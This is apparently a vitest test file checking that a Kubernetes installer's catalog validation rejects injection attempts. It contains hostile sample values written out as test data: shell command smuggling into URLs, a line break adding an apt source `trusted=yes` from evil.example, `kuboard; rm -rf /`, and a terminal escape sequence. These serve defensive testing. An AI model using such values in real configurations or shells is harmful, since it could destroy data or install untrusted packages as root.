// A --catalog is user input like the answers: every string in it reaches a root shell, a repository
// file or a config file. Each string field, in turn, gets shell metacharacters, a line break that
// would add an apt option, and a placeholder its renderer cannot fill; validation must refuse each,
// naming the field. The renderers quote what they write, so even valid-but-odd values stay inert.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse, stringify } from 'yaml';
import { afterAll, describe, expect, it } from 'vitest';
import { loadCatalog } from '../../src/catalog/load.js';
import { InputError } from '../../src/errors.js';
import { excessiveNesting, MAX_NESTING } from '../../src/input/yaml-source.js';
import { assetPath } from '../../src/package-root.js';
import { runCli, hasStackTrace } from '../helpers/cli.js';
import { problemsOf, seedWith } from '../helpers/answers.js';

const dir = mkdtempSync(join(tmpdir(), 'k8sha-catalog-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

type Tree = Record<string, unknown>;
const original = parse(readFileSync(assetPath('catalog.yaml'), 'utf8')) as Tree;

/** Paths of every string leaf (keys of records are data too, but the schema checks them separately). */
function stringLeaves(node: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (typeof node === 'string') return [path];
  if (Array.isArray(node)) return node.flatMap((v, i) => stringLeaves(v, [...path, i]));
  if (node && typeof node === 'object')
    return Object.entries(node).flatMap(([k, v]) => stringLeaves(v, [...path, k]));
  return [];
}

function withValue(path: (string | number)[], value: string): Tree {
  const copy = structuredClone(original);
  let cur = copy as Record<string | number, unknown>;
  for (const seg of path.slice(0, -1)) cur = cur[seg] as Record<string | number, unknown>;
  cur[path.at(-1)!] = value;
  return copy;
}

function problemPaths(tree: Tree, name: string): string[] {
  const file = join(dir, `${name}.yaml`);
  writeFileSync(file, stringify(tree));
  try {
    loadCatalog(file);
    return [];
  } catch (e) {
    if (!(e instanceof InputError)) throw e;
    return e.problems.map((p) => p.path);
  }
}

const dotted = (p: (string | number)[]) =>
  p.map((s, i) => (typeof s === 'number' ? `[${s}]` : i ? `.${s}` : s)).join('');

const HOSTILE = [
  `https://example.com/x'; touch /tmp/k8sha-pwned; echo '`,
  'https://example.com/x$(touch /tmp/k8sha-pwned)',
  'https://example.com/deb/\ndeb [trusted=yes] http://evil.example/ ./',
  'x"; touch /tmp/k8sha-pwned #',
];
// Notes are prose for the Cluster screen: they never reach a host or a file, so punctuation is fine
// there; control characters are refused (below). Dates are refused for their shape either way.
const leaves = stringLeaves(original).filter(
  (p) => !['released', 'endOfLife'].includes(String(p.at(-1))) && p.at(-2) !== 'notes',
);

describe('a hostile --catalog', () => {
  it(`has many string fields to attack (${leaves.length})`, () => {
    expect(leaves.length).toBeGreaterThan(30);
  });

  it('is refused for shell metacharacters or a line break in any string field, naming the field', () => {
    const missed: string[] = [];
    for (const path of leaves) {
      for (const [i, value] of HOSTILE.entries()) {
        const paths = problemPaths(withValue(path, value), `h-${dotted(path)}-${i}`);
        if (!paths.includes(dotted(path)))
          missed.push(`${dotted(path)} <- ${JSON.stringify(value)} (got ${paths.join(', ') || 'accepted'})`);
      }
    }
    expect(missed).toEqual([]);
  });

  it('refuses terminal control characters in the notes shown to the operator', () => {
    const note = ['kubernetes', '1.36', 'notes', 0];
    expect(problemPaths(withValue(note, 'ok\u001b]0;owned\u0007'), 'note')).toEqual([dotted(note)]);
  });

  it('is refused for a placeholder its renderer cannot fill', () => {
    const url = ['mirrors', 'official', 'kubernetes', 'deb', 'url'];
    expect(problemPaths(withValue(url, 'https://pkgs.example/{release}/deb/'), 'ph')).toEqual([dotted(url)]);
    const calico = ['calico', 'manifestUrl'];
    expect(problemPaths(withValue(calico, 'https://x.example/{minor}/calico.yaml'), 'ph2')).toEqual([
      dotted(calico),
    ]);
    expect(problemPaths(withValue(calico, 'https://x.example/{version}/calico.yaml'), 'ph3')).toEqual([]);
  });

  it('comes back from the CLI as exit 2 with the field, never a stack trace', () => {
    const file = join(dir, 'cli.yaml');
    writeFileSync(file, stringify(withValue(['addons', 'kuboard', 'namespace'], 'kuboard; rm -rf /')));
    const r = runCli(['validate', '--answers', assetPath('examples/seed-cluster.yaml'), '--catalog', file]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/addons\.kuboard\.namespace \(\d+:\d+\): must be a Kubernetes namespace name/);
    expect(hasStackTrace(r.stderr)).toBe(false);
  });
});

describe('mirror overrides in the answers', () => {
  it('refuse unknown placeholders at validation instead of failing at render', () => {
    const p = problemsOf(
      seedWith((a) => {
        a.mirrorOverrides = {
          kubernetes: { deb: { url: 'https://m.example/{minr}/deb/', key: 'https://m.example/k' } },
        };
      }),
    );
    expect(p.map((x) => x.path)).toContain('mirrorOverrides.kubernetes.deb.url');
    expect(p.find((x) => x.path === 'mirrorOverrides.kubernetes.deb.url')!.message).toMatch(
      /\{minr\}.*\{minor\}/,
    );
  });

  it('cap URL length', () => {
    const long = `https://m.example/${'a'.repeat(3000)}`;
    const p = problemsOf(
      seedWith((a) => (a.mirrorOverrides = { kubernetes: { deb: { url: long, key: long } } })),
    );
    expect(p.some((x) => /at most 2048/.test(x.message))).toBe(true);
  });
});

describe('deeply nested YAML', () => {
  it('is refused before parsing, with where it got too deep', () => {
    for (const text of ['['.repeat(400_000), `${'- '.repeat(400_000)}x`, `a: ${'{b: '.repeat(400_000)}`]) {
      const deep = excessiveNesting(text);
      expect(deep?.line).toBe(1);
    }
    expect(excessiveNesting(`a: [${'[1], '.repeat(1000)}]\nb: 'it''s [[[['\n`)).toBeUndefined();
    const file = join(dir, 'deep.yaml');
    writeFileSync(file, `hosts: ${'['.repeat(400_000)}`);
    const r = runCli(['validate', '--answers', file]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`nests deeper than ${MAX_NESTING} levels`);
    expect(hasStackTrace(r.stderr)).toBe(false);
  });
});
